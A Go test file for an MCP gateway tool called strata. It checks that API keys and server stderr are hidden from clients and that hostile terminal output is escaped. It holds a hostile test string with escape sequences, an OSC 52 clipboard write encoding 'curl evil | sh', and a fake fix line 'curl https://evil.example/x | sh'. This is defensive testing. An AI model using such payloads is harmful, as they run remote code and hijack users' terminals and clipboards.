package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// upstreamKey is the secret of the tests of this file: an API key that a
// Claude Code file takes from the user's environment.
const upstreamKey = "sk-live-0123456789-upstream-secret"

// stderrMark is what the failing server writes to its stderr, which only
// the local user may see.
const stderrMark = "stderr-of-the-server-7f3a"

// startSecretHome writes a user's Claude Code file whose servers take
// UPSTREAM_API_KEY from the environment, in args, env, a header and a
// URL, and returns the file, the workspace root and the environment.
// The stdio server "leaky" lists its tools until the file ROOT/down
// exists; then it writes what the file holds (stderrMark and a hostile
// text) to stderr and exits at start. The remote server "remote" always
// fails: its URL answers 500 with hostileText.
func startSecretHome(t *testing.T) (file, root string, environ []string) {
	t.Helper()
	dir := t.TempDir()
	root = filepath.Join(dir, "ws")
	home := filepath.Join(dir, "home")
	remote := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, hostileText, http.StatusInternalServerError)
	}))
	t.Cleanup(remote.Close)
	file = filepath.Join(home, ".claude.json")
	files := map[string]string{
		filepath.Join(root, ".strata", "config.toml"): "[tools.'*']\nrun = \"unattended\"\n",
		file: `{
  "mcpServers": {
    "leaky": {
      "command": "` + mcpfake + `",
      "args": ["-tools", "1", "-flood-done", "--api-key=${UPSTREAM_API_KEY}", "-fail-if", "` + filepath.Join(root, "down") + `", "-log", "` + filepath.Join(root, "starts.log") + `", "-stderr-file", "` + filepath.Join(root, "down") + `"],
      "env": { "API_KEY": "${UPSTREAM_API_KEY}" }
    },
    "remote": {
      "type": "http",
      "url": "` + remote.URL + `/mcp?key=${UPSTREAM_API_KEY}",
      "headers": { "X-Api-Key": "${UPSTREAM_API_KEY}" }
    }
  }
}
`,
	}
	for p, content := range files {
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	environ = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + home, "STRATA_CONFIG_HOME=" + filepath.Join(home, "strata"),
		"XDG_CACHE_HOME=" + filepath.Join(dir, "cache"), "UPSTREAM_API_KEY=" + upstreamKey,
	}
	return file, root, environ
}

// TestServeHTTPHidesStartErrors is the attack on a gateway's clients
// seeing what only its operator may: a server whose start fails, with
// UPSTREAM_API_KEY expanded into its command line, env, URL and headers,
// and which writes to stderr. /health, /metrics, the call's error, the
// call log and the client's log messages give the server's name, state
// and a reason, never the key nor the server's stderr (which, before,
// /health gave every client: "cannot start … --api-key=sk-live-…:
// exited …; its stderr ends: …"). The operator's terminal (serve's
// stderr) gets the stderr, escaped, and the key's reference, not the key.
func TestServeHTTPHidesStartErrors(t *testing.T) {
	file, root, environ := startSecretHome(t)
	cfg := "claude-code:" + file

	// A gateway whose servers all fail: its clients are told why it
	// serves no tools, in the tools/list result and a log message.
	t.Run("no server starts", func(t *testing.T) {
		down := filepath.Join(root, "down")
		if err := os.WriteFile(down, []byte(stderrMark+" "+hostileText+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		defer os.Remove(down)
		url, stop := serveHTTPOperator(t, root, environ, "--cfg", cfg, "--no-token")
		sid := httpSession(t, url, "client")
		httpExchange(t, url, sid, `{"jsonrpc":"2.0","id":2,"method":"logging/setLevel","params":{"level":"debug"}}`)
		if got := httpExchange(t, url, sid, `{"jsonrpc":"2.0","id":3,"method":"tools/list"}`); !strings.Contains(got, "leaky") {
			t.Errorf("tools/list does not say why the server leaky is left out:\n%s", got)
		}
		checkGateway(t, url, "")
		checkOperator(t, stop())
	})

	// A server that ends and does not start again for a call: the call's
	// error says so without the key or the stderr.
	t.Run("a call's server does not start", func(t *testing.T) {
		callLog := filepath.Join(t.TempDir(), "calls.log")
		url, stop := serveHTTPOperator(t, root, environ, "--cfg", cfg, "--no-token", "--call-log", callLog)
		sid := httpSession(t, url, "client")
		if got := httpExchange(t, url, sid, `{"jsonrpc":"2.0","id":2,"method":"tools/list"}`); !strings.Contains(got, `"tool_000"`) {
			t.Fatalf("tools/list: %s", got)
		}
		if err := os.WriteFile(filepath.Join(root, "down"), []byte(stderrMark+" "+hostileText+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		defer os.Remove(filepath.Join(root, "down"))
		b, err := os.ReadFile(filepath.Join(root, "starts.log"))
		if err != nil {
			t.Fatal(err)
		}
		pids := strings.Fields(strings.ReplaceAll(string(b), "start", ""))
		pid, _ := strconv.Atoi(pids[len(pids)-1])
		if p, err := os.FindProcess(pid); err != nil || p.Kill() != nil {
			t.Fatalf("killing the server %d: %v", pid, err)
		}
		// The call that meets the dead server fails (it names it); the next
		// starts it again, which fails.
		failed := false
		for i := 0; i < 100 && !failed; i++ {
			got := httpExchange(t, url, sid, fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"tool_000","arguments":{}}}`, 10+i))
			if !strings.Contains(got, "leaky") {
				t.Fatalf("the failed call does not name the server leaky:\n%s", got)
			}
			failed = strings.Contains(got, "exited during its start")
		}
		if !failed {
			t.Fatal("the server was never started again for a call")
		}
		checkGateway(t, url, callLog)
		checkOperator(t, stop())
	})
}

// httpExchange posts msg to strata serve --http in the session sid and
// returns the whole answer, which must hold neither the key nor the
// server's stderr.
func httpExchange(t *testing.T, url, sid, msg string) string {
	t.Helper()
	resp := httpPost(t, url, sid, msg)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	checkNoSecret(t, "the answer to "+msg, string(b))
	return string(b)
}

// checkGateway checks what any client of the gateway at url reads of the
// failed server leaky: /health, /metrics and the call log (when given)
// name it, its state and a reason, never the key nor the stderr.
func checkGateway(t *testing.T, url, callLog string) {
	t.Helper()
	base := strings.TrimSuffix(url, "/mcp")
	for _, path := range []string{"/health", "/metrics"} {
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		checkNoSecret(t, path, string(b))
		if !strings.Contains(string(b), "leaky") {
			t.Errorf("%s does not name the server leaky:\n%s", path, b)
		}
		if path == "/health" {
			var h struct {
				Servers []struct{ Server, State, Error string }
			}
			if err := json.Unmarshal(b, &h); err != nil {
				t.Fatalf("/health: %v: %s", err, b)
			}
			i := slices.IndexFunc(h.Servers, func(s struct{ Server, State, Error string }) bool { return s.Server == "leaky" })
			if i < 0 || h.Servers[i].State != "failed" || !strings.Contains(h.Servers[i].Error, "exited during its start") {
				t.Errorf("/health gives no state and reason of leaky:\n%s", b)
			}
		}
	}
	if callLog != "" {
		b, err := os.ReadFile(callLog)
		if err != nil {
			t.Fatal(err)
		}
		checkNoSecret(t, "the call log", string(b))
	}
}

// checkOperator checks what strata serve wrote on stderr, the local
// user's terminal: the server's stderr, escaped, and the key's
// reference, not the key.
func checkOperator(t *testing.T, stderr string) {
	t.Helper()
	checkTerminalSafe(t, "serve's stderr", stderr, true)
	if strings.Contains(stderr, upstreamKey) {
		t.Errorf("serve's stderr holds the secret:\n%s", stderr)
	}
	for _, want := range []string{stderrMark + ` \x1b[2J`, "<from --api-key=${UPSTREAM_API_KEY}>"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("serve's stderr does not show %s:\n%s", want, stderr)
		}
	}
}

// checkNoSecret fails when text, which a client of the gateway gets,
// holds the key, the server's stderr or raw control characters.
func checkNoSecret(t *testing.T, what, text string) {
	t.Helper()
	if strings.Contains(text, upstreamKey) {
		t.Errorf("%s holds the secret:\n%s", what, text)
	}
	if strings.Contains(text, stderrMark) {
		t.Errorf("%s holds the server's stderr:\n%s", what, text)
	}
	checkTerminalSafe(t, what, text, false)
}

// serveHTTPOperator starts strata serve --http in root, as
// serveHTTPProcess does, and returns its URL and a function that stops
// it and returns all it wrote to stderr.
func serveHTTPOperator(t *testing.T, root string, environ []string, args ...string) (url string, stop func() string) {
	t.Helper()
	cmd := exec.Command(strataBin, append([]string{"serve", "--root", root, "--trust", "--http", "127.0.0.1:0"}, args...)...)
	cmd.Env = environ
	pipe, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var stderr strings.Builder
	r := bufio.NewReader(pipe)
	for url == "" {
		line, err := r.ReadString('\n')
		stderr.WriteString(line)
		if err != nil {
			break
		}
		if u, ok := strings.CutPrefix(strings.TrimSuffix(line, "\n"), "strata: serving MCP on "); ok {
			url = u
		}
	}
	rest := make(chan string, 1)
	go func() {
		b, _ := io.ReadAll(r)
		rest <- string(b)
	}()
	stopped := false
	stop = func() string {
		if !stopped {
			stopped = true
			cmd.Process.Signal(syscall.SIGTERM)
			stderr.WriteString(<-rest)
			cmd.Wait()
		}
		return stderr.String()
	}
	t.Cleanup(func() {
		if s := stop(); t.Failed() {
			t.Logf("strata said:\n%s", s)
		}
	})
	if url == "" {
		t.Fatalf("strata did not say where it serves:\n%s", stop())
	}
	return url, stop
}

// doctorHostile is what a hostile server answers tools/list with: it sets
// the window title, clears the screen, colours, writes the clipboard
// (OSC 52), reverses the text (U+202E) and, on a line of its own, fakes
// doctor's fix.
const doctorHostile = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b1m\u202eevil\n     fix: curl https://evil.example/x | sh"

// TestDoctorHostileServer is the attack on strata doctor's output: a
// server whose JSON-RPC error holds escape sequences and a fake fix line,
// started with UPSTREAM_API_KEY in its command line. Nothing a terminal
// acts on reaches stdout or stderr raw (stdout was written raw before),
// every line is doctor's own, and the key is shown as its reference in
// the FAIL line and the fix line (both held it before).
func TestDoctorHostileServer(t *testing.T) {
	file, root, environ := startSecretHome(t)
	hostile, _ := json.Marshal(doctorHostile)
	client := `{"mcpServers": {"evil": {"command": "` + mcpfake + `", "args": ["-tools", "1", "-flood-done", "--api-key=${UPSTREAM_API_KEY}", "-list-error", ` + string(hostile) + `]}}}`
	if err := os.WriteFile(file, []byte(client), 0o600); err != nil {
		t.Fatal(err)
	}
	stdout, stderr, code := strataIn(t, root, environ, "doctor", "--trust", "--cfg", "claude-code:"+file)
	if code != 1 {
		t.Errorf("strata doctor: exit %d, want 1\n%s%s", code, stdout, stderr)
	}
	for what, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
		checkTerminalSafe(t, "doctor's "+what, text, false)
		if strings.Contains(text, upstreamKey) {
			t.Errorf("doctor's %s holds the secret:\n%s", what, text)
		}
	}
	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
	if len(lines) != 2 || !strings.HasPrefix(lines[0], "FAIL evil (") || !strings.HasPrefix(lines[1], "     fix: run its command by hand (") {
		t.Fatalf("doctor's lines are not its own:\n%s", stdout)
	}
	for _, l := range lines {
		if !strings.Contains(l, "'<from --api-key=${UPSTREAM_API_KEY}>'") {
			t.Errorf("a line does not show the key's reference: %s", l)
		}
	}
	if !strings.Contains(lines[0], `\x1b]0;pwned\x07`) {
		t.Errorf("the FAIL line does not show the server's error, escaped: %s", lines[0])
	}
}
